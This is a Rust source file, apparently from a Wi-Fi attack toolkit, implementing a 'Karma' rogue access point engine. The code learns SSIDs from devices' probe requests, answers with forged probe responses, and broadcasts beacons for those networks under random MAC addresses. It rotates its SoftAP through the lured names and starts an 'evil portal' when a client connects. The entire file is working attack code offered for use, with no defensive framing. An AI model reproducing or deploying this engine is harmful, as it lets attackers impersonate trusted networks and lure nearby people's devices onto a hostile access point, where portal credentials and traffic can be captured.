use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use libwifi::frame::components::MacAddress;
use libwifi::frame::Frame;
use libwifi::parse_frame;
use log::{debug, info, warn};

use crate::config::EngineConfig;
use crate::error::EngineError;
use crate::interface::{
    Collaborators, FrameCallback, RadioInterface, RxFrame, SoftApConfig, WifiMode,
};
use crate::rx::{ReceivePath, RxOwner};
use crate::task::{CancelToken, Worker};
use crate::tx::{build_beacon_frame, build_probe_response, FrameInjector};
use crate::util::is_valid_ssid;

const KARMA_TICK: Duration = Duration::from_millis(500);
const BEACON_GAP: Duration = Duration::from_millis(10);

/// Arguments handed to the portal for a lured SSID.
const PORTAL_CONTENT: &str = "default";
const PORTAL_DOMAIN: &str = "portal.local";

/// Probed SSIDs, learned or supplied by the user.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct KarmaCache {
    ssids: Vec<String>,
    capacity: usize,
    /// A user supplied list is in use and learning is off.
    manual: bool,
    next: usize,
}

impl KarmaCache {
    pub fn new(capacity: usize) -> Self {
        KarmaCache {
            capacity,
            ..Default::default()
        }
    }

    /// Remember a probed SSID. Ignored in manual mode, when full, or when
    /// already known.
    pub fn learn(&mut self, ssid: &str) -> bool {
        if self.manual
            || !is_valid_ssid(ssid)
            || self.ssids.len() >= self.capacity
            || self.contains(ssid)
        {
            return false;
        }
        self.ssids.push(ssid.to_string());
        true
    }

    /// Replace the cache with `ssids` and stop learning. Invalid entries and
    /// anything past capacity are dropped.
    pub fn set_manual(&mut self, ssids: &[String]) {
        self.ssids = ssids
            .iter()
            .filter(|ssid| is_valid_ssid(ssid))
            .take(self.capacity)
            .cloned()
            .collect();
        self.manual = true;
        self.next = 0;
    }

    pub fn contains(&self, ssid: &str) -> bool {
        self.ssids.iter().any(|known| known == ssid)
    }

    pub fn is_manual(&self) -> bool {
        self.manual
    }

    pub fn ssids(&self) -> &[String] {
        &self.ssids
    }

    pub fn len(&self) -> usize {
        self.ssids.len()
    }

    pub fn is_empty(&self) -> bool {
        self.ssids.is_empty()
    }

    /// Next SSID in rotation order.
    pub fn rotate(&mut self) -> Option<String> {
        if self.ssids.is_empty() {
            return None;
        }
        let ssid = self.ssids[self.next % self.ssids.len()].clone();
        self.next = (self.next + 1) % self.ssids.len();
        Some(ssid)
    }

    pub fn clear(&mut self) {
        self.ssids.clear();
        self.next = 0;
    }

    /// Back to learning with an empty cache.
    pub fn reset(&mut self) {
        self.clear();
        self.manual = false;
    }
}

struct KarmaShared {
    collaborators: Collaborators,
    injector: Arc<FrameInjector>,
    cache: Mutex<KarmaCache>,
    portal_active: AtomicBool,
}

impl KarmaShared {
    fn on_frame(&self, rx: &RxFrame) {
        let Ok(Frame::ProbeRequest(probe)) = parse_frame(&rx.payload, false) else {
            return;
        };
        let Some(ssid) = probe.station_info.visible_ssid() else {
            return;
        };
        let station = probe.header.address_2;
        info!("[KARMA] Received probe request from STA {station} for SSID '{ssid}'");

        let known = match self.cache.lock() {
            Ok(mut cache) => {
                cache.learn(ssid);
                cache.contains(ssid)
            }
            Err(_) => false,
        };
        if known {
            self.respond(&station, ssid);
        }
    }

    fn respond(&self, station: &MacAddress, ssid: &str) {
        let radio = &self.collaborators.radio;
        let ap_mac = match radio.mac_address(RadioInterface::SoftAp) {
            Ok(mac) => mac,
            Err(e) => {
                warn!("[KARMA] No SoftAP address: {e}");
                return;
            }
        };
        let channel = radio.channel().unwrap_or(1);
        let frame = build_probe_response(ssid, station, channel, &ap_mac);
        match self.injector.transmit_on(RadioInterface::SoftAp, &frame) {
            Ok(_) => info!("[KARMA] Sent probe response to STA {station} for SSID '{ssid}'"),
            Err(e) => warn!("[KARMA] Failed to send probe response to STA {station} for SSID '{ssid}': {e}"),
        }
    }

    fn start_portal(&self, ssid: &str) {
        if self.portal_active.load(Ordering::SeqCst) {
            return;
        }
        match self
            .collaborators
            .portal
            .start_portal(PORTAL_CONTENT, ssid, "", ssid, PORTAL_DOMAIN)
        {
            Ok(()) => {
                self.portal_active.store(true, Ordering::SeqCst);
                info!("[KARMA] Evil portal started for SSID: {ssid}");
            }
            Err(e) => warn!("[KARMA] Portal for {ssid} failed to start: {e}"),
        }
    }

    fn stop_portal(&self) {
        if self.portal_active.swap(false, Ordering::SeqCst) {
            self.collaborators.portal.stop_portal();
            info!("[KARMA] Evil portal stopped");
        }
    }

    fn configure_ap(&self, ssid: &str) -> bool {
        let config = SoftApConfig::default().ssid(ssid);
        match self.collaborators.radio.set_ap_config(&config) {
            Ok(()) => true,
            Err(e) => {
                warn!("[KARMA] Could not set SoftAP SSID {ssid}: {e}");
                false
            }
        }
    }

    fn beacon_all(&self, ssids: &[String], token: &CancelToken) -> bool {
        let channel = self.collaborators.radio.channel().unwrap_or(1);
        for ssid in ssids {
            let frame = build_beacon_frame(ssid, &MacAddress::random(), channel);
            if let Err(e) = self.injector.transmit_on(RadioInterface::SoftAp, &frame) {
                debug!("[KARMA] Beacon for {ssid} dropped: {e}");
            }
            if !token.sleep(BEACON_GAP) {
                return false;
            }
        }
        true
    }

    fn run(&self, token: CancelToken, rotate_every: Duration) {
        info!("Karma attack started");
        let radio = &self.collaborators.radio;

        let single = self.cache.lock().ok().and_then(|cache| {
            (cache.len() == 1).then(|| cache.ssids()[0].clone())
        });
        if let Some(ssid) = single {
            let ready = self.configure_ap(&ssid)
                && radio
                    .set_mode(WifiMode::SoftAp)
                    .and_then(|_| radio.start())
                    .map_err(|e| warn!("[KARMA] SoftAP failed to start: {e}"))
                    .is_ok();
            if ready {
                info!("Karma using single SSID: {ssid}");
                self.start_portal(&ssid);
            }
        }

        let mut last_rotation = Instant::now();
        loop {
            let client = radio.ap_client_has_ip();

            if !client && last_rotation.elapsed() > rotate_every {
                let next = self
                    .cache
                    .lock()
                    .ok()
                    .and_then(|mut cache| (cache.len() > 1).then(|| cache.rotate()).flatten());
                if let Some(ssid) = next {
                    if self.configure_ap(&ssid) {
                        info!("Karma rotating to SSID: {ssid}");
                        self.start_portal(&ssid);
                    }
                    last_rotation = Instant::now();
                }
            }

            if !client {
                let ssids = self
                    .cache
                    .lock()
                    .map(|cache| cache.ssids().to_vec())
                    .unwrap_or_default();
                if !self.beacon_all(&ssids, &token) {
                    break;
                }
            }

            if !token.sleep(KARMA_TICK) {
                break;
            }
        }
        info!("Karma attack stopped");
    }
}

/// Answers probe requests for SSIDs it has seen or been given, and rotates
/// the SoftAP through them to lure clients onto the portal.
pub struct KarmaEngine {
    shared: Arc<KarmaShared>,
    rx: Arc<ReceivePath>,
    config: EngineConfig,
    worker: Mutex<Option<Worker>>,
}

impl KarmaEngine {
    pub fn new(
        collaborators: Collaborators,
        injector: Arc<FrameInjector>,
        rx: Arc<ReceivePath>,
        config: EngineConfig,
    ) -> Self {
        KarmaEngine {
            shared: Arc::new(KarmaShared {
                collaborators,
                injector,
                cache: Mutex::new(KarmaCache::new(config.karma_cache_size)),
                portal_active: AtomicBool::new(false),
            }),
            rx,
            config,
            worker: Mutex::new(None),
        }
    }

    pub fn is_running(&self) -> bool {
        self.worker
            .lock()
            .map(|worker| worker.is_some())
            .unwrap_or(false)
    }

    /// Use `ssids` instead of learning from probes.
    pub fn set_karma_ssids(&self, ssids: &[String]) {
        if let Ok(mut cache) = self.shared.cache.lock() {
            cache.set_manual(ssids);
            info!("Karma SSID list set ({} entries)", cache.len());
        }
    }

    pub fn cached_ssids(&self) -> Vec<String> {
        self.shared
            .cache
            .lock()
            .map(|cache| cache.ssids().to_vec())
            .unwrap_or_default()
    }

    pub fn portal_active(&self) -> bool {
        self.shared.portal_active.load(Ordering::SeqCst)
    }

    /// Feed one received frame through the probe handler.
    pub fn on_frame(&self, rx: &RxFrame) {
        self.shared.on_frame(rx);
    }

    pub fn start_karma(&self) -> Result<(), EngineError> {
        let mut slot = self.worker.lock().map_err(|_| EngineError::Busy("Karma"))?;
        if slot.is_some() {
            info!("Karma attack already running");
            return Err(EngineError::Busy("Karma"));
        }

        if let Ok(mut cache) = self.shared.cache.lock() {
            if !cache.is_manual() {
                cache.clear();
            }
        }

        let rx_shared = self.shared.clone();
        let callback: FrameCallback = Arc::new(move |frame: &RxFrame| rx_shared.on_frame(frame));
        self.rx.claim(RxOwner::Karma, callback)?;

        let shared = self.shared.clone();
        let rotate_every = self.config.karma_rotate_interval;
        let worker = match Worker::spawn("karma", move |token| shared.run(token, rotate_every)) {
            Ok(worker) => worker,
            Err(e) => {
                self.rx.release(RxOwner::Karma);
                return Err(e);
            }
        };

        self.shared
            .collaborators
            .display
            .show_attack("Karma", "probe requests");
        *slot = Some(worker);
        Ok(())
    }

    pub fn stop_karma(&self) -> bool {
        let worker = self.worker.lock().ok().and_then(|mut slot| slot.take());
        let Some(worker) = worker else {
            info!("Karma attack not running");
            return false;
        };

        worker.stop(self.config.stop_grace);
        self.rx.release(RxOwner::Karma);
        self.shared.stop_portal();
        if let Ok(mut cache) = self.shared.cache.lock() {
            cache.reset();
        }
        self.shared.collaborators.display.show_status("Karma Stopped");
        true
    }
}

impl Drop for KarmaEngine {
    fn drop(&mut self) {
        self.stop_karma();
    }
}
